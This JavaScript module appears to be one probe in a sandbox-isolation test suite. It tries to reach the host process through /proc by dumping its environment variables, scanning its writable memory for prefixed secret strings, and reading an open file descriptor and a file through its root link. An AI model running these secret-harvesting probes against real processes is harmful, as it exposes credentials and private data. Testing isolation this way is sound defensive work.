import { attempt } from "../attempt.mjs";
import { outermost, power } from "../reach.mjs";

/** The numbers under which the host may be found. */
const numbers = ({ hostPid }) => [hostPid, outermost().process.ppid, "self"];

function each(tools, work) {
  let note = "";
  for (const number of numbers(tools.aim)) {
    try {
      work(`/proc/${number}`);
    } catch (error) {
      note = error.message;
    }
  }
  return note;
}

/** Looks for secrets in what of the memory can be written, up to 400 MiB of it. */
function scan(folder, { aim, show }) {
  const { closeSync, openSync, readFileSync, readSync } = power("fs");
  const maps = readFileSync(`${folder}/maps`, "utf8");
  const memory = openSync(`${folder}/mem`, "r");
  const chunk = power("buffer").Buffer.allocUnsafeSlow(4 * 2 ** 20);
  let left = 400 * 2 ** 20;
  try {
    for (const [, from, to] of maps.matchAll(/^([0-9a-f]+)-([0-9a-f]+) rw-p \S+ 00:00/gm)) {
      for (let at = parseInt(from, 16); at < parseInt(to, 16) && left > 0; at += chunk.length) {
        const size = Math.min(chunk.length, parseInt(to, 16) - at);
        let read;
        try {
          read = readSync(memory, chunk, 0, size, at);
        } catch {
          break;
        }
        left -= read;
        const wanted = `${aim.prefix}memory-`;
        for (let found = chunk.indexOf(wanted); found >= 0 && found < read; found = chunk.indexOf(wanted, found + 1))
          show(chunk.toString("latin1", found, found + wanted.length + 32));
      }
    }
  } finally {
    closeSync(memory);
  }
}

export default attempt({
  environ: (tools) => each(tools, (folder) => tools.show(power("fs").readFileSync(`${folder}/environ`, "latin1"))),
  mem: (tools) => each(tools, (folder) => scan(folder, tools)),
  fd: (tools) =>
    each(tools, (folder) => {
      tools.show(power("fs").readFileSync(`${folder}/fd/${tools.aim.descriptor}`, "utf8"));
    }),
  "cmdline and root": (tools) =>
    each(tools, (folder) => {
      tools.show(power("fs").readFileSync(`${folder}/root${tools.aim.file}`, "utf8"));
    }),
});
